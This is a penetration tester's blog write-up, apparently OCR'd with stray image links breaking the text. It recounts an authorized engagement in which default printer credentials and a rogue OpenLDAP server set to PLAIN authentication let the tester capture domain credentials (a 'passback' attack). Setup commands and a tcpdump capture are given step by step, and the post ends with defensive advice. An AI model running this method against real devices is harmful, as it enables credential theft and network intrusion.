Snatching Domain Creds from Unexpected Places.

9 minute read

It was just another boring pentest

I recently had an interesting network pentest and thought it’d be worth a share to my fellow red teamers out there. I’ll set the stage. A colleague and I were both working the same penetration test for a PCI client, both a merchant & service provider. I had just wrapped up the external pentest and my colleague had an extra week worth of time on the internal, so I jumped in to help.

I already knew going in that it was going to be rough because the external turned up almost no findings at all, and my friend had already been banging his head against the internal network remotely for a week.

When I first arrived into the network and started on my own recon process, I quickly came to a lot of the same conclusions that my partner had. This network would be tough. Our job was to emphasize on stealth because the blue team would be actively hunting us and trying to test out their incident response procedures as we worked. I can say they did a good job of doing that without being overly restrictive. It made for a truly fun cat-and-mouse game.

For roughly 3 days, we continued doing low-and-slow nmap scans and digging around in the network for interesting services. We both saw evidence of Nessus, splunk, and Symmantec Enterprise End-point protection that somewhat indicated these guys were serious about their internal network security.

This point was proven when I discovered an Apache Tomcat server in their dev environment that had just recently been stood up. I immediately tested for default creds aaaaand – bam – manager console access. “Awesome!” thought I. We finally had a chance to get a shell on a local network machine, which was Windows 10.

If I was lucky, the Tomcat server would be running aslocal admin and I could just mimikatz myself to victory. Or so I thought …

Turns out their incident response process was pretty kick-ass

I went the usual route, uploading a malicious WAR with a simple java/reverse_tcp shell and used the fancy new --encrypt option for good measure. I meticulously prepped my attack to make sure it would have the best chance of success. After I finally uploadedit and executed the .jsp page with my shell … nothing. I got an internal 505 error and no session came back. My first instinct was that they had some egress filtering in place, perhaps.

Then we got an email from the client describing exactly the actions I performed on those exact servers and asked if it was us that did it. I realized their endpoint protection must have picked off the payload and tattled on us. By the time we emailed them back, they shut down and changed all the passwords on all of the Tomcat servers in the environment. To say the least, we were both impressed by the response time. It was going to be a longpentest.

When suddenly … there was a printer

While looking through the various subnets, I kept noting the presence of a lot of managed printers that were hanging around. Normally I don’t give them much thought, but the both of us were coming up on the final hours of testing and hadn’t come up with anything particularly substantial. The first printer I popped was an IPP-managed printer that I was able to connect to via SOCKS proxy through the appliance. This was a simple case of port-forwarding the IPP port (631/tcp) like so… ssh -l 631:target-ip:631 my-user@attack-box.

I came to find out that this printer actually was sitting in the CEO’s office because “John Doe’s Office” was inthe hostname. A quick LinkedIn search revealed that only one John Doe worked at the company, making him easy to pick out. The realization that if I could manage to steal some of the jobs off the printer and find some sweet, sweet PCI data or credentials dawned on me, but it was a longshot. I could troll their boss but … well… I’m supposed to be professional. Oh well.

I documented the default admin credentials and moved on.

Things looked grim

We spent the remainder of the day beating our heads against the wall, trying every trick in the book. SMB relay was no good, they enforced SMB signing domain-wide. Good for them, bad for us. There were a few pieces of software that looked vulnerable to RCE for a second, but proved unexploitable because they had already hardened the hosts against the default credentials or implemented work arounds. Once again, blue-team scores.

Finally, I came across one final printer, this time a Kyocera floor model laser printer that stuck out to me. It had SNMP, NetBIOS, FTP, SMB, Telnet, and HTTPS web services all running on it simultaneously. I connected to the web server and saw a loginprompt. On instinct, I looked up the default credentials for the model, which relinquished full control of the printer to me. I also took the time to check out the telnet service and quickly realized it was a command-line configuration console with no password at all.

“Should we maybe put a password on the telnet port for this printer?”
“Nah… nobody uses telnet. What could go wrong?”
–Kyocera Devs

I wasn’t sure what I was looking for, but with only an hour left in the pentest, I was digging with my fingernails for something useful. At least I could say I found default credentials in a PCI environment as I waved my pathetic little victory flag.

Light at the end of the tunnel

Suddenly, I realized there were configurations for SMTP and LDAP services on the printer when I began digging around in the advanced configuration settings. I noted that there were domain user credentials on this thing.

-gasp- “Oh my God, we could still pull this off,” I thought.

The credentials themselves were masked, which was frustrating at first. Then I suddenly remembered, “Duh, I’m the admin. I can just tell it to talk to any server I want!”

I learned from my good friend @JamCut that this classic attack is called a “Passback Attack” and was first published officially by Deral (PercX) Heiland and Michael (omi) Belton back at DefCon 19. For some servers, it’s as easy as opening up netcat and telling the printer toconnect back to your netcat listener to deliver credentials. Sadly, in my case, LDAP does not like to just give up credentials like a humble hacker might hope. Without that LDAP handshake, it won’t so much as acknowledge your existence.

For me to get that printer to give up its credentials, I would need to stand up my own rogue LDAP server. Then we could get somewhere.

Step 1: Build a rogue LDAP server

The first hurdle for this attack was simply swapping out the IP address of the Domain controller for my own host. For the next part, since there currently aren’t any metasploit modules that do this for me, I would need to build my own LDAP server from scratch. :(The LDAP setup was a bit tricky, but thankfully I happened to have built a few in my spare time. I also found a very helpful blog post from Danny Rappleyea titled OpenLDAP for LDAP Plaintext Password Capture that walked me through the process.

The most important component of the attack was configuring my LDAP server to require “PLAIN” authentication only, via unencrypted LDAP. To do this requires a bit of prior LDAP experience, and some familiarity with LDAP’s unique .ldif configuration files.

# Install slapd on Kali Linux
apt-get update
apt-get -y install slapd# Configure the server
dpkg-reconfigure -p low slapd

Select the following settings:

  • Omit OpenLDAP server Configuration? NO
  • DNS domain name:
  • Organization Name:
  • Administrator password: Dealer’s Choice
  • Database backend to use: HDB
  • Do you want the database to be removed when slapd is purched? NO
  • Move old database? YES
  • Allow LDAPv2 Protocol? YES (This enables PLAIN-auth support :D)

Next, start your slapd server

systemctl start slapd

The next thing you’ll need to do is copy the following text intoan .ldif file

cat >olcPlainAuthOnly.ldif
dn: cn=config
replace: olcSaslSecProps
olcSaslSecProps: noanonymous,minssf=0,passcred

Hit ESC to end the cat stream

Now, before you apply the LDIF changes, check the existing authentication mechanisms, and ensure the changes are applied.

# Check Existing Settings
ldapsearch -H ldap:// -x -LLL -s base -b "" supportedSASLMechanisms

supportedSASLMechanisms: DIGEST-MD5
supportedSASLMechanisms: CRAM-MD5
supportedSASLMechanisms: NTLM

# Apply LDIF Changes
ldapmodify -Y EXTERNAL -H ldapi:// -f ./olcPlainAuthOnly.ldif

# If you don't get any errors, restart slapd and check your configuration

systemctl restart slapd
ldapsearch -H ldap:// -x -LLL -s base -b "" supportedSASLMechanisms

supportedSASLMechanisms: PLAIN
supportedSASLMechanisms: LOGIN

When you see PLAIN and LOGIN as the only supported SASL authentication methods, you’re good to go. The last step is to modify the printer settings to make sure it connects to your IP on the LDAP port (389 by default), and if the printer supports secure SSL/TLS or STARTTLS, make sure to turn that stuff off. The processfor each printer will vary, but if you’ve gotten this far, I’m confident you’ll find it.

No problem when you’re the printer’s local admin ;)

Step 2: Profit

After I finally opened up my LDAP service, I fired up tcpdump via tcpdump -SXnn -p 389 -i eth0 so that it would listen to all the LDAP traffic and print out the ASCII packet trace. After that, I hit “Test Connection” on the printer.

Obligatory, Heavily Censored Screenshot

Lo’ and behold, those lovely domain credentials came back clear as day in plain text. Thanks to our newly acquired domain access, we had the ability to enumerate usernames, domain admins, and domain computers via rid cycling, courtesy of @Gilks enumerid tool.

And the mouse escaped to liveanother day.


The results of the test turned out quite nicely despite struggling for the first 90% of it. The main lesson I took from this particular test is that you shouldn’t overlook embedded hardware, especially managed printers. As it turnsout, this particular printer needed those LDAP credentials to pull out user emails for doing copy-to-email functions. It’s a convenient feature, but a two-edged sword.

Leaving default credentials on your embedded hardware will make any hacker’s day.

For that reason, I would also offer the following advice to the blue teamers out there. Tons of printers come with pre-configured web services. Most of the time, they get installed by the third party printer service technicians, and you don’t think twice about them. Beyond setting up those initial LDAP settings and such, you probably wouldn’t look back. Except, maybe you configured those settings locally at the printer console and not the web console? Remember to double-check your printers and other embedded hardware for hidden web services and remote command-line consoles.


Leave a comment